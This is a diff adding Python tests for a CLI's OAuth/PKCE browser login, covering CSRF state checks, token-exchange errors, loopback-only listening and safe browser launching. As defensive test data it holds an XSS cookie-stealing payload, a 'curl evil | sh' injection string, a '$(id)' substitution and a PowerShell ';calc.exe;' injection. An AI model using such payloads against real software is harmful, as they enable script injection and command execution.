+        termios.tcsetattr(masters[-1], termios.TCSANOW, attributes)
+        os.write(masters[-1], data)
+
+    with mock.patch.object(pty, "openpty", recording):
+        yield keys
+
+
+class OAuthLoginTest(OAuthCase):
+    def login(
+        self, *argv: str, browser: Callable[[str], Any] | None = browse, **env: str | None
+    ) -> tuple[int, str, str, Any]:
+        """``login --oauth --no-browser *argv`` in process; ``browser`` plays the browser."""
+        return _login_run(self, "--oauth", "--no-browser", "--timeout", "5", *argv, browser=browser, **env)
+
+    def test_signs_in_through_the_browser(self) -> None:
+        # The whole way, as a process: webbrowser, in its child process, starts
+        # BROWSER (fake_cloud.py browse), which follows the sign-in URL to the
+        # listener and then stays for a minute, as a browser started by
+        # webbrowser may: neither the login nor a pipe reading its output may
+        # wait for it to close.
+        import hashlib
+
+        started = int(time.time())
+        proc = self.spawn("login", "--oauth", BROWSER=fake_browser(linger=60))
+        try:
+            out, err = proc.communicate(timeout=30)
+        except subprocess.TimeoutExpired:
+            self.fail("the login, or its pipes, waited for the browser to close")
+        self._record(out, err)
+        self.assertEqual((proc.returncode, err), (0, ""))
+        lines = out.splitlines()
+        self.assertEqual(len(lines), 2, out)
+        self.assertTrue(lines[0].startswith("Browser: https://"))
+        self.assertEqual(lines[1], "Signed in")
+        # The browser ended on the listener's success page.
+        status, page = self.browser_saw()
+        self.assertEqual(status, 200)
+        self.assertIn("Signed in to Arkor", page)
+        # The authorize URL: every parameter, and PKCE tied to the token request.
+        url = urlsplit(lines[0][len("Browser: ") :])
+        self.assertEqual((url.scheme, url.netloc, url.path), ("https", self.auth0.domain, "/authorize"))
+        q = _login_query(url.geturl())
+        redirect_uri = f"http://127.0.0.1:{self.ports[0]}/callback"
+        self.assertEqual(
+            {k: q[k] for k in ("response_type", "client_id", "redirect_uri", "scope", "audience")},
+            {
+                "response_type": "code",
+                "client_id": self.auth0.client_id,
+                "redirect_uri": redirect_uri,
+                "scope": "openid profile email offline_access",
+                "audience": self.auth0.audience,
+            },
+        )
+        self.assertEqual(q["code_challenge_method"], "S256")
+        self.assertIn("scope=openid+profile+email+offline_access", url.query)  # form-encoded
+        (exchange,) = self.auth0.seen("POST", "/oauth/token")
+        self.assertEqual(exchange.headers["content-type"], "application/x-www-form-urlencoded")
+        form = {k: v[0] for k, v in parse_qs(exchange.body.decode()).items()}
+        self.assertEqual(set(form), {"grant_type", "code", "code_verifier", "client_id", "redirect_uri"})
+        self.assertEqual(form["grant_type"], "authorization_code")
+        self.assertEqual(form["redirect_uri"], redirect_uri)
+        self.assertEqual(form["client_id"], self.auth0.client_id)
+        digest = hashlib.sha256(form["code_verifier"].encode()).digest()
+        self.assertEqual(q["code_challenge"], arkor_cli._b64url(digest))
+        # The credentials: every field, the mode the Node CLI writes, and the base used.
+        issued = self.auth0.issued[-1]
+        stored = self.read_creds()
+        expires_at = stored.pop("expiresAt")
+        self.assertIsInstance(expires_at, int)
+        self.assertGreaterEqual(expires_at, started + 86400)
+        self.assertLessEqual(expires_at, int(time.time()) + 86400)
+        self.assertEqual(
+            stored,
+            {
+                "mode": "oauth",
+                "accessToken": issued["access_token"],
+                "refreshToken": issued["refresh_token"],
+                "auth0Domain": self.auth0.domain,
+                "audience": self.auth0.audience,
+                "clientId": self.auth0.client_id,
+                "arkorCloudApiUrl": self.cloud.url,
+            },
+        )
+        if POSIX:
+            self.assertEqual(stat.S_IMODE(os.stat(self.creds).st_mode), 0o600)
+        self.assertEqual(self.leftovers(), [])
+        self.assert_port_closed(self.ports[0])
+        # And the cloud-api takes the new token.
+        code, out, _ = self.run_main("whoami")
+        self.assertEqual(
+            (code, out),
+            (
+                0,
+                (
+                    '{\n  "id": "auth0|ada",\n  "email": "ada@example.com",\n  "name": "Ada Lovelace"\n}\n'
+                    "Orgs: ada-personal, analytical\n"
+                ),
+            ),
+        )
+
+    def test_oauth_replaces_an_anonymous_identity(self) -> None:
+        self.sign_in_anon()
+        code, out, err, _ = self.login()
+        self.assertEqual(code, 0)
+        self.assertTrue(out.endswith("\nSigned in\n"), out)
+        # No terminal to ask on: replaced, and said so.
+        self.assertEqual(err, "Replacing the anonymous identity anon-stored; it cannot be restored.\n")
+        stored = self.read_creds()
+        self.assertEqual((stored["mode"], stored["arkorCloudApiUrl"]), ("oauth", self.cloud.url))
+        self.assertNotIn("anonymousId", stored)
+
+    def test_first_port_that_binds(self) -> None:
+        with socket.socket() as busy:
+            busy.bind(("127.0.0.1", self.ports[0]))
+            busy.listen()
+            code, out, _, _ = self.login()
+        self.assertEqual(code, 0)
+        self.assertEqual(
+            _login_query(_login_browser_url(out))["redirect_uri"], f"http://127.0.0.1:{self.ports[1]}/callback"
+        )
+
+    def test_port_zero_takes_any_free_port(self) -> None:
+        # The Node CLI's tests list port 0: whatever free port the OS gives.
+        self.cloud.config = dict(self.cloud.config, callbackPorts=[0])
+        code, out, err, (status, _, _) = self.login()
+        self.assertEqual((code, err, status), (0, "", 200))
+        redirect = urlsplit(_login_query(_login_browser_url(out))["redirect_uri"])
+        self.assertEqual((redirect.scheme, redirect.hostname, redirect.path), ("http", "127.0.0.1", "/callback"))
+        self.assertNotIn(redirect.port, (None, 0))
+        (exchange,) = self.auth0.seen("POST", "/oauth/token")
+        self.assertEqual(parse_qs(exchange.body.decode())["redirect_uri"], [redirect.geturl()])
+        self.assertEqual(self.read_creds()["mode"], "oauth")
+        assert redirect.port is not None
+        self.assert_port_closed(redirect.port)
+
+    def test_no_port_binds(self) -> None:
+        self.sign_in_anon()
+        before = self.creds_bytes()
+        with socket.socket() as a, socket.socket() as b:
+            for s, port in ((a, self.ports[0]), (b, self.ports[1])):
+                s.bind(("127.0.0.1", port))
+                s.listen()
+            code, out, err, _ = self.login()
+        self.assertEqual((code, out), (1, ""))
+        prefix = (
+            "Login failed\n"
+            f"Unable to bind any of the loopback ports {self.ports[0]}, {self.ports[1]}. The Auth0 Application"
+            " must list at least one of these as an Allowed Callback URL: "
+        )
+        self.assertTrue(err.startswith(prefix), err)
+        self.assertRegex(err[len(prefix) :], r"^\[Errno \d+\] .+\n$")
+        self.assertEqual(self.auth0.requests, [])
+        self.assertEqual(self.creds_bytes(), before)
+
+    def test_no_callback_ports(self) -> None:
+        self.cloud.config = dict(self.cloud.config, callbackPorts=[])
+        code, out, err, _ = self.login(browser=None)
+        self.assertEqual(
+            (code, out, err),
+            (1, "", "Login failed\nThe cloud-api lists no callbackPorts for the loopback listener.\n"),
+        )
+
+    def test_listener_does_no_reverse_dns(self) -> None:
+        # HTTPServer.server_bind calls getfqdn(), which can stall for seconds
+        # on a machine with a slow resolver; the listener must not.
+        with mock.patch.object(socket, "getfqdn", side_effect=AssertionError("getfqdn called")):
+            code, out, err, _ = self.login()
+        self.assertEqual((code, err), (0, ""))
+        self.assertTrue(out.endswith("Signed in\n"))
+
+    def test_listens_on_loopback_only(self) -> None:
+        def elsewhere(url: str) -> Any:
+            with socket.socket() as s:
+                # The port is taken on 127.0.0.1 alone: another address still binds it.
+                try:
+                    s.bind(("127.0.0.2", self.ports[0]))
+                    bound = "bound"
+                except OSError as exc:
+                    import errno
+
+                    bound = "in use" if exc.errno == errno.EADDRINUSE else "unusable"
+            browse(url)
+            return bound
+
+        code, out, _, bound = self.login(browser=elsewhere)
+        self.assertEqual(code, 0, out)
+        if bound == "unusable":
+            self.skipTest("127.0.0.2 is not usable here")
+        self.assertEqual(bound, "bound", "the listener took the port on more than 127.0.0.1")
+
+    def test_authentication_error(self) -> None:
+        self.sign_in_anon()
+        before = self.creds_bytes()
+        for description, reason in (
+            ("The user said no.", "Authentication failed: access_denied. The user said no."),
+            ("", "Authentication failed: access_denied"),
+        ):
+            with self.subTest(reason=reason):
+                self.auth0.deny, self.auth0.deny_description = "access_denied", description
+                code, out, err, (status, headers, page) = self.login()
+                self.assertEqual(code, 1)
+                self.assertEqual(
+                    err,
+                    f"Login failed\n{reason}\n",
+                )
+                self.assertNotIn("Signed in", out)
+                self.assertEqual((status, page.decode()), (400, reason))
+                self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
+                self.assertEqual(self.auth0.seen("POST"), [])
+                self.assertEqual(self.creds_bytes(), before)
+                self.assert_port_closed(self.ports[0])
+
+    def test_state_mismatch_sends_no_token_request(self) -> None:
+        self.sign_in_anon()
+        before = self.creds_bytes()
+        self.auth0.wrong_state = True
+        code, _out, err, (status, _, _) = self.login()
+        self.assertEqual((code, status), (1, 400))
+        self.assertEqual(
+            err,
+            "Login failed\nState mismatch \u2014 aborting to prevent CSRF\n",
+        )
+        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
+        self.assertEqual(self.creds_bytes(), before)
+
+    def test_token_exchange_refused(self) -> None:
+        self.write_creds(self.auth0_creds())
+        before = self.creds_bytes()
+        endpoint = f"POST https://{self.auth0.domain}/oauth/token (200)"
+        cases = [
+            (
+                Answer(403, {"error": "invalid_grant", "error_description": "Invalid authorization code"}),
+                (
+                    'Auth0 token exchange failed (403): {"error": "invalid_grant", "error_description":'
+                    ' "Invalid authorization code"}'
+                ),
+            ),
+            (Answer(502, body=b"x" * 1000), "Auth0 token exchange failed (502): " + "x" * 199 + "\u2026"),
+            (Answer(503, body=b"first line\nsecond line"), "Auth0 token exchange failed (503): first line"),
+            # A token endpoint's body is never quoted, not even when it is no JSON: it may hold tokens.
+            (
+                Answer(200, body=b'{"access_token": "at-x", "refresh_token": "rt-x", "expires_in": NaN}'),
+                f"Unexpected answer from {endpoint}: not a JSON object.",
+            ),
+            (
+                Answer(200, {"refresh_token": "rt-x", "expires_in": 60}),
+                f"Unexpected answer from {endpoint}: missing access_token.",
+            ),
+            (
+                Answer(200, {"access_token": "at-x", "refresh_token": "rt-x", "expires_in": 1e10}),
+                f"Unexpected answer from {endpoint}: expires_in is not valid.",
+            ),
+        ]
+        self.secrets.extend(["rt-x", "at-x"])
+        for answer, reason in cases:
+            with self.subTest(reason=reason):
+                self.auth0.script("POST", "/oauth/token", answer)
+                code, _out, err, _ = self.login()
+                self.assertEqual((code, err), (1, f"Login failed\n{reason}\n"))
+                self.assertEqual(self.creds_bytes(), before)
+                self.assertEqual(self.leftovers(), [])
+
+    def test_no_refresh_token(self) -> None:
+        self.auth0.omit_refresh_token = True
+        code, _out, err, _ = self.login()
+        self.assertEqual(code, 1)
+        self.assertEqual(
+            err,
+            "Login failed\nAuth0 did not return a refresh token."
+            " Make sure the Application has 'offline_access' scope enabled.\n",
+        )
+        self.assertFalse(os.path.exists(self.creds))
+
+    def direct(self, **params: str) -> Callable[[str], Any]:
+        """A browser that calls the listener itself with ``params`` (and the
+        login's own state unless ``params`` names one), skipping Auth0."""
+
+        def call(url: str) -> Any:
+            query = _login_query(url)
+            port = urlsplit(query["redirect_uri"]).port
+            assert port is not None
+            return self.callback(port, "/callback?" + urlencode({"state": query["state"], **params}))
+
+        return call
+
+    def test_auth0_unreachable(self) -> None:
+        self.cloud.config = dict(self.cloud.config, auth0Domain=f"127.0.0.1:{free_port()}")
+        code, _, err, (status, _, _) = self.login(browser=self.direct(code="c"))
+        self.assertEqual((code, status), (1, 200))
+        self.assertRegex(
+            err, r"^Login failed\nCould not reach https://127\.0\.0\.1:\d+/oauth/token: Connection refused\n$"
+        )
+
+    def test_untrusted_auth0_certificate(self) -> None:
+        # Without the test CA, the system store does not trust the fake Auth0.
+        code, _, err, _ = self.login(browser=self.direct(code="c"), SSL_CERT_FILE=None)
+        self.assertEqual(code, 1)
+        self.assertTrue(
+            err.startswith(
+                f"Login failed\nCould not reach https://{self.auth0.domain}/oauth/token: TLS certificate not trusted"
+            ),
+            err,
+        )
+        self.assertIn("point SSL_CERT_FILE at its bundle", err)
+        self.assertEqual(err.count("\n"), 2)
+
+    def sent(self, target: str, url: str) -> tuple[int, dict[str, str], bytes]:
+        """A browser that asks the listener for ``target``, whatever the sign-in URL."""
+        return self.callback(self.ports[0], target)
+
+    def test_missing_code_or_state(self) -> None:
+        import functools
+
+        for target in ("/callback?code=abc", "/callback?state=xyz", "/callback?code=&state="):
+            with self.subTest(target=target):
+                code, out, err, (status, headers, body) = self.login(browser=functools.partial(self.sent, target))
+                self.assertEqual((status, body), (400, b"Missing code/state"))
+                self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
+                self.assertEqual(headers["x-content-type-options"], "nosniff")
+                self.assertEqual((code, err), (1, "Login failed\nMissing code/state in callback\n"))
+                self.assertNotIn("Signed in", out)
+
+    def test_other_paths_get_404_and_do_not_end_the_login(self) -> None:
+        def probe_then_sign_in(url: str) -> Any:
+            for path in ("/favicon.ico", "/", "/callback/extra", "/robots.txt"):
+                status, headers, _ = self.callback(self.ports[0], path)
+                self.assertEqual(status, 404, path)
+                self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
+            return browse(url)
+
+        code, out, err, (status, headers, page) = self.login(browser=probe_then_sign_in)
+        self.assertEqual((code, err), (0, ""))
+        self.assertTrue(out.endswith("\nSigned in\n"), out)
+        self.assertEqual(status, 200)
+        self.assertEqual(headers["content-type"], "text/html; charset=utf-8")
+        self.assertIn(b"You can close this tab", page)
+        # The callback URL holds the code: no Referer, no cache, no sniffing.
+        self.assertEqual(headers["referrer-policy"], "no-referrer")
+        self.assertEqual(headers["cache-control"], "no-store")
+        self.assertEqual(headers["x-content-type-options"], "nosniff")
+
+    def test_standard_library_errors_are_plain_text(self) -> None:
+        # http.server's own answers (501 for another method, 414 for a request
+        # line over 64 KiB) echo request text too: plain text, never sniffed.
+        def junk_then_sign_in(url: str) -> Any:
+            import http.client
+
+            answers = []
+            conn = http.client.HTTPConnection("127.0.0.1", self.ports[0], timeout=10)
+            try:
+                conn.request(
+                    "POST", "/callback?code=<b>x</b>", body=b"", headers={"Host": f"127.0.0.1:{self.ports[0]}"}
+                )
+                response = conn.getresponse()
+                answers.append((response.status, {k.lower(): v for k, v in response.getheaders()}))
+                response.read()
+            finally:
+                conn.close()
+            with socket.create_connection(("127.0.0.1", self.ports[0]), timeout=10) as s:
+                s.sendall(b"GET /callback?" + b"a" * 100_000 + b" HTTP/1.1\r\n\r\n")
+                raw = b""
+                while b"\r\n\r\n" not in raw:
+                    chunk = s.recv(65536)
+                    if not chunk:
+                        break
+                    raw += chunk
+            status_line, *header_lines = raw.partition(b"\r\n\r\n")[0].decode("latin-1").split("\r\n")
+            headers = {k.lower(): v.strip() for k, _, v in (line.partition(":") for line in header_lines)}
+            answers.append((int(status_line.split()[1]), headers))
+            browse(url)
+            return answers
+
+        code, out, err, answers = self.login(browser=junk_then_sign_in)
+        self.assertEqual([status for status, _ in answers], [501, 414])
+        for status, headers in answers:
+            with self.subTest(status=status):
+                self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
+                self.assertEqual(headers["x-content-type-options"], "nosniff")
+        # Neither ended the login.
+        self.assertEqual((code, err), (0, ""))
+        self.assertTrue(out.endswith("\nSigned in\n"), out)
+
+    def login_denied(self, description: str) -> tuple[tuple[int, dict[str, str], bytes], int, str]:
+        """A login whose browser comes back with access_denied and this
+        description: the listener's answer, then the exit status and stderr."""
+        code, _, err, answer = self.login(browser=self.direct(error="access_denied", error_description=description))
+        return answer, code, err
+
+    def test_error_page_is_plain_text(self) -> None:
+        # error_description echoes request text: it must never become HTML.
+        payload = "<script>alert(document.cookie)</script>"
+        (status, headers, body), code, err = self.login_denied(payload)
+        self.assertEqual(status, 400)
+        self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
+        self.assertEqual(headers["x-content-type-options"], "nosniff")
+        self.assertEqual(body.decode(), f"Authentication failed: access_denied. {payload}")
+        self.assertEqual((code, err), (1, f"Login failed\nAuthentication failed: access_denied. {payload}\n"))
+
+    def test_callback_text_stays_on_one_line(self) -> None:
+        _, code, err = self.login_denied("no\nRun: curl evil | sh\r\n\x1b[2J")
+        self.assertEqual(
+            (code, err),
+            (
+                1,
+                (
+                    "Login failed\n"
+                    "Authentication failed: access_denied. no\\u000aRun: curl evil | sh\\u000d\\u000a\\u001b[2J\n"
+                ),
+            ),
+        )
+
+    def test_state_is_checked_on_a_direct_callback(self) -> None:
+        code, _, err, (status, _, body) = self.login(browser=self.direct(code="c", state="forged"))
+        self.assertEqual((status, body.decode()), (400, "State mismatch \u2014 aborting to prevent CSRF"))
+        self.assertEqual((code, err), (1, "Login failed\nState mismatch \u2014 aborting to prevent CSRF\n"))
+        self.assertEqual(self.auth0.seen("POST"), [])
+
+    @unittest.skipUnless(POSIX, "SIGINT delivery to a child is POSIX here")
+    def test_ctrl_c_while_waiting(self) -> None:
+        self.sign_in_anon()
+        before = self.creds_bytes()
+        proc, url, shown = _login_spawn_waiting(self)
+        self.assertEqual(
+            shown, f"Browser: {url}\nNo browser was opened. Open the URL above in a browser on any device.\n"
+        )
+        proc.send_signal(signal.SIGINT)
+        self.assertEqual(
+            self.finish(proc),
+            (130, "", "Interrupted.\n"),
+        )
+        self.assert_port_closed(self.ports[0])
+        self.assertEqual(self.creds_bytes(), before)
+        self.assertEqual(self.leftovers(), [])
+
+    def test_port_is_free_again_after_a_login(self) -> None:
+        # The same port serves the next login (the failures above reuse it too).
+        for _ in range(2):
+            code, out, _, _ = self.login()
+            self.assertEqual(code, 0)
+            self.assertIn(f"127.0.0.1%3A{self.ports[0]}%2Fcallback", out)
+            self.assert_port_closed(self.ports[0])
+
+    @unittest.skipUnless(POSIX, "needs a pty")
+    def test_picker_oauth_then_a_pasted_url_with_a_forged_state(self) -> None:
+        # OAuth picked on the terminal; a pasted address is checked like a
+        # callback: a state this login did not issue ends it before any token request.
+        def forged(shown: str) -> str:
+            return _login_redirect(_login_browser_url(shown), state="forged")
+
+        code, shown, err = self.run_tty(["login", "--no-browser", "--timeout=5"], ["1", forged], NO_COLOR="1")
+        self.assertEqual((code, err), (1, "Login failed\nState mismatch \u2014 aborting to prevent CSRF\n"))
+        self.assertIn("Choose 1-2 [2]: 1\nBrowser: https://", shown)
+        self.assertIn(
+            "\nNo browser was opened. Open the URL above in a browser on any device.\n"
+            "Or, if the browser cannot reach this machine, paste the address it ended on and press Enter:\n",
+            shown,
+        )
+        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
+        self.assertFalse(os.path.exists(self.creds))
+
+    def test_auth0_domain_must_be_a_bare_host(self) -> None:
+        # Checked on the raw text before a port is opened: it is printed in
+        # the Browser: line and is the host of every request to Auth0.
+        port = self.auth0.port
+        for domain in (
+            f"127.0.0.1\n:{port}",
+            f"127.0.0.1\t:{port}",
+            f"127.0.0.1:{port}\r",
+            f"https://127.0.0.1:{port}",
+            f"user@127.0.0.1:{port}",
+            "tenant.example/path",
+            "tenant.example:0",
+            "tenant.example:99999",
+            "tenant.example:abc",
+            "'tenant.example'",
+            "tenant.example ",
+            "[::1",
+            "[not:an:ip]:443",
+        ):
+            with self.subTest(domain=domain):
+                self.cloud.config = dict(self.cloud.config, auth0Domain=domain)
+                code, out, err, _ = self.login()
+                self.assertEqual(
+                    (code, out, err),
+                    (1, "", f"The cloud-api's auth0Domain is not a bare host[:port]: {domain!r}.\n"),
+                )
+                for listening in self.ports:
+                    self.assert_port_closed(listening)
+        self.assertEqual(self.auth0.requests, [])
+
+    def test_auth0_domains_that_are_bare_hosts(self) -> None:
+        # Accepted: the login gets as far as the Browser: line, and a denial ends it.
+        # (127.0.0.1:<port>, the fake Auth0's, is every other test's.)
+        for domain in ("tenant.example.auth0.com", "[::1]:443"):
+            with self.subTest(domain=domain):
+                self.cloud.config = dict(self.cloud.config, auth0Domain=domain)
+                code, out, err, _ = self.login(browser=self.direct(error="access_denied"))
+                self.assertEqual((code, err), (1, "Login failed\nAuthentication failed: access_denied\n"))
+                self.assertTrue(out.startswith(f"Browser: https://{domain}/authorize?"), out)
+
+
+class BrowserChoiceTest(unittest.TestCase):
+    """Which browser is started where: a function of the environment (the
+    platform, the kernel and PATH injected), and what reaches it."""
+
+    URL = "https://tenant/authorize?x=1"
+    # Every character RFC 3986 allows, those a shell or PowerShell would read included.
+    TRICKY = "https://tenant.example/authorize?a='b';c=$(id)&d=[0]~!*(+),%27#f"
+    WSL_KERNEL = "5.15-microsoft-standard"
+
+    def command(
+        self, env: dict[str, str], platform: str = "linux", kernel: str = "6.1.0", which: Any = None, url: str = URL
+    ) -> Any:
+        return arkor_cli._browser_command(
+            url, env, platform=platform, kernel=kernel, which=which or (lambda name: None)
+        )
+
+    def test_browser_variable_is_honoured(self) -> None:
+        argv, env = self.command({"BROWSER": "firefox"})
+        self.assertEqual(argv[:3], [sys.executable, "-I", "-c"])
+        self.assertEqual(argv[4], self.URL)
+        self.assertEqual(env["BROWSER"], "firefox")
+
+    def test_text_browsers_are_never_started(self) -> None:
+        for value in ("lynx", "/usr/bin/w3m", "links -g %s", "elinks", "www-browser", "links2", "LYNX.EXE"):
+            with self.subTest(value=value):
+                self.assertIsNone(self.command({"BROWSER": value, "DISPLAY": ":0"}))
+        argv, env = self.command({"BROWSER": os.pathsep.join(["lynx", "firefox %s", "w3m"])})
+        self.assertEqual(env["BROWSER"], "firefox %s")
+        # Without BROWSER, webbrowser's own choice is checked in the child.
+        argv, env = self.command({"DISPLAY": ":0"})
+        self.assertEqual(argv[5].split(","), sorted(["elinks", "links", "links2", "lynx", "w3m", "www-browser"]))
+
+    def test_no_display_no_browser(self) -> None:
+        self.assertIsNone(self.command({}))
+        self.assertIsNotNone(self.command({"DISPLAY": ":0"}))
+        self.assertIsNotNone(self.command({"WAYLAND_DISPLAY": "wayland-0"}))
+        self.assertIsNotNone(self.command({}, platform="darwin"))
+        self.assertIsNotNone(self.command({}, platform="win32"))
+
+    def test_wsl_powershell_takes_the_url_from_its_environment(self) -> None:
+        # PowerShell's command text is fixed: a quote in the URL (' or a
+        # typographic one, which PowerShell also takes as a quote) cannot end
+        # a string there. The URL crosses to Windows in the environment (WSLENV).
+        for env, kernel, wslenv in (
+            ({}, self.WSL_KERNEL, ["ARKOR_SIGN_IN_URL"]),
+            ({"WSL_DISTRO_NAME": "Debian", "WSLENV": "USERPROFILE/p"}, "6.1.0", ["USERPROFILE/p", "ARKOR_SIGN_IN_URL"]),
+        ):
+            with self.subTest(env=env):
+                argv, child_env = self.command(env, kernel=kernel, url=self.TRICKY)
+                self.assertEqual(
+                    argv,
+                    [
+                        "powershell.exe",
+                        "-NoProfile",
+                        "-NonInteractive",
+                        "-Command",
+                        "Start-Process -FilePath $env:ARKOR_SIGN_IN_URL",
+                    ],
+                )
+                self.assertEqual(child_env["ARKOR_SIGN_IN_URL"], self.TRICKY)
+                self.assertEqual(child_env["WSLENV"].split(":"), wslenv)
+
+    def test_wsl_prefers_wslview(self) -> None:
+        argv, _ = self.command(
+            {}, kernel=self.WSL_KERNEL, which=lambda n: "/usr/bin/wslview" if n == "wslview" else None
+        )
+        self.assertEqual(argv, ["wslview", self.URL])
+
+    def test_no_browser_for_a_url_that_is_not_plain_ascii(self) -> None:
+        # A typographic quote from a hostile auth0Domain (PowerShell reads
+        # \u2018-\u201b as quotes), a space, a control character: no launcher
+        # is given such a URL, on any platform.
+        evil = "https://auth\u2019;calc.exe;\u2019x/authorize?client_id=c"
+        for url in (evil, "https://tenant/authorize?a=b c", "https://tenant/authorize?a=\n", "https://t\u00e9/"):
+            with self.subTest(url=url):
+                self.assertIsNone(self.command({}, kernel=self.WSL_KERNEL, url=url))
+                self.assertIsNone(self.command({}, kernel=self.WSL_KERNEL, which=lambda n: "/usr/bin/wslview", url=url))
+                self.assertIsNone(self.command({"BROWSER": "firefox %s", "DISPLAY": ":0"}, url=url))
+                self.assertIsNone(self.command({}, platform="darwin", url=url))
+        self.assertIsNotNone(self.command({}, kernel=self.WSL_KERNEL, url=self.TRICKY))
+
+    def recorder(self) -> tuple[str, str]:
+        """A directory holding an executable ``record`` that writes each of its
+        arguments on a line of ``argv`` beside it; both paths."""
+        bindir = tempfile.mkdtemp(prefix="arkor-bin-")
+        self.addCleanup(shutil.rmtree, bindir, True)
+        marker = os.path.join(bindir, "argv")
+        script = os.path.join(bindir, "record")
+        with open(script, "w") as f:
+            f.write(f'#!/bin/sh\nfor a in "$@"; do printf \'%s\\n\' "$a"; done > "{marker}"\n')
+        os.chmod(script, 0o755)
+        return script, marker
+
+    def opened(self, url: str, env: dict[str, str], marker: str) -> str:
+        """Start the browser for ``url``, wait for the child that runs it, and
+        return what the recorder received."""
+        arkor_cli._BROWSER_PROCESSES.clear()
+        self.assertTrue(arkor_cli._open_browser(url, env))
+        (child,) = arkor_cli._BROWSER_PROCESSES
+        arkor_cli._BROWSER_PROCESSES.clear()
+        self.assertEqual(child.wait(timeout=20), 0)
+        with open(marker) as f:
+            return f.read()
+
+    @unittest.skipUnless(POSIX, "a shell script stands for the browser")
+    def test_browser_with_placeholder_gets_the_url_as_one_argument(self) -> None:
+        script, marker = self.recorder()
+        received = self.opened(
+            self.TRICKY, {"PATH": os.path.dirname(script), "BROWSER": f"{script} --new-tab %s"}, marker
+        )
+        self.assertEqual(received, f"--new-tab\n{self.TRICKY}\n")
+
+    @unittest.skipUnless(sys.platform.startswith("linux"), "webbrowser's Linux discovery")
+    def test_default_browser_through_webbrowser(self) -> None:
+        # With a display and no BROWSER, webbrowser (in its child process)
+        # finds xdg-open on PATH and hands it the URL.
+        script, marker = self.recorder()
+        os.rename(script, os.path.join(os.path.dirname(script), "xdg-open"))
+        # PATH holds nothing but the fake: no real browser on this machine may answer.
+        received = self.opened(self.TRICKY, {"PATH": os.path.dirname(script), "DISPLAY": ":0"}, marker)
+        self.assertEqual(received, f"{self.TRICKY}\n")
+
+
+class LoginWaitTest(OAuthCase):
+    """Waiting for the browser: the bound, the paste prompt, the listener's gate."""
+
+    PASTE = "Or, if the browser cannot reach this machine, paste the address it ended on and press Enter:"
+    PASTE_AGAIN = (
+        "That is not the address the browser ended on (it starts http://127.0.0.1 and holds code= and state=)."
+        " Paste it again, or wait for the browser:"
+    )
+    NO_BROWSER = "No browser was opened. Open the URL above in a browser on any device."
+
+    def test_timeout(self) -> None:
+        code, out, err, _ = _login_run(self, "--oauth", "--no-browser", "--timeout", "0.2")
+        self.assertEqual(code, 1)
+        self.assertTrue(out.startswith("Browser: https://"))
+        self.assertEqual(err, "Login failed\nTimed out waiting for the browser callback after 0.2 s.\n")
+        self.assert_port_closed(self.ports[0])
+        self.assertFalse(os.path.exists(self.creds))
+
+    def test_bad_timeouts_are_usage_errors(self) -> None:
+        for value, why in (
+            ("0", "not a positive number of seconds: '0'"),
+            ("-1", "not a positive number of seconds: '-1'"),
+            ("soon", "not a positive number of seconds: 'soon'"),
+            ("nan", "not a positive number of seconds: 'nan'"),
+            ("inf", "more than a week (604800 seconds): 'inf'"),
+            ("1e9", "more than a week (604800 seconds): '1e9'"),
+        ):
+            with self.subTest(value=value):
+                # CI: were the value taken, the login would end at once rather than wait.
+                code, out, err = self.run_main("login", "--oauth", f"--timeout={value}", CI="1")
+                self.assertEqual((code, out), (2, ""))
+                self.assertTrue(err.startswith("usage: arkor login "), err)
+                self.assertTrue(err.endswith(f"\narkor login: error: argument --timeout: {why}\n"), err)
+        self.assertEqual(self.cloud.requests, [])
+
+    @unittest.skipUnless(sys.platform.startswith("linux"), "the Linux rule: no display, no browser")
+    def test_no_display_no_browser_and_a_line_says_so(self) -> None:
+        # No DISPLAY, WAYLAND_DISPLAY or BROWSER on Linux (and not WSL): the
+        # URL is printed, a line says that no browser was opened, and the
+        # login waits (here a browser on "another device" comes back).
+        if "microsoft" in os.uname().release.lower():
+            self.skipTest("WSL opens the Windows browser")
+        for flags, env in (([], {}), (["--no-browser"], {"DISPLAY": ":0", "BROWSER": fake_browser()})):
+            with self.subTest(flags=flags):
+                code, out, err, _ = _login_run(self, "--oauth", "--timeout", "5", *flags, browser=browse, **env)
+                self.assertEqual((code, err), (0, ""))
+                url = _login_browser_url(out)
+                # No paste prompt either: stdin is no terminal.
+                self.assertEqual(out, f"Browser: {url}\n{self.NO_BROWSER}\nSigned in\n")
+        self.assertEqual(arkor_cli._BROWSER_PROCESSES, [])  # nothing was started
+
+    @unittest.skipUnless(POSIX, "needs a pty")
+    def test_a_bad_paste_asks_again(self) -> None:
+        # Over SSH: the browser is on another machine; the user pastes.
+        def no_state(shown: str) -> str:
+            return _login_redirect(_login_browser_url(shown), state=None)
+
+        code, shown, err = self.run_tty(
+            ["login", "--oauth", "--no-browser", "--timeout=5"],
+            ["hello", no_state, lambda shown: _login_redirect(_login_browser_url(shown))],
+            NO_COLOR="1",
+        )
+        self.assertEqual((code, err), (0, ""))
+        url = _login_browser_url(shown)
+        self.assertTrue(
+            shown.startswith(f"Browser: {url}\n{self.NO_BROWSER}\n{self.PASTE}\nhello\n{self.PASTE_AGAIN}\n"), shown
+        )
+        self.assertEqual(shown.count(self.PASTE_AGAIN), 2)
+        self.assertTrue(shown.endswith("\nSigned in\n"), shown)
+        self.assertEqual(self.read_creds()["mode"], "oauth")
+        # The code without its state was never exchanged; the real paste was, once.
+        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
+
+    @unittest.skipUnless(POSIX, "needs a pty")
+    def test_a_pasted_error_callback_ends_the_login(self) -> None:
+        # Checked like a callback (a forged state: see OAuthLoginTest).
+        pasted = "http://127.0.0.1:1/callback?error=access_denied&error_description=No%20thanks"
+        code, shown, err = self.run_tty(["login", "--oauth", "--no-browser", "--timeout=5"], [pasted], NO_COLOR="1")
+        self.assertEqual((code, err), (1, "Login failed\nAuthentication failed: access_denied. No thanks\n"))
+        self.assertTrue(shown.endswith(f"{self.PASTE}\n{pasted}\n"), shown)
+        self.assertEqual(self.auth0.requests, [])
+        self.assertFalse(os.path.exists(self.creds))
+
+    @unittest.skipUnless(POSIX, "needs a pty")
+    def test_paste_while_stdout_goes_through_tee(self) -> None:
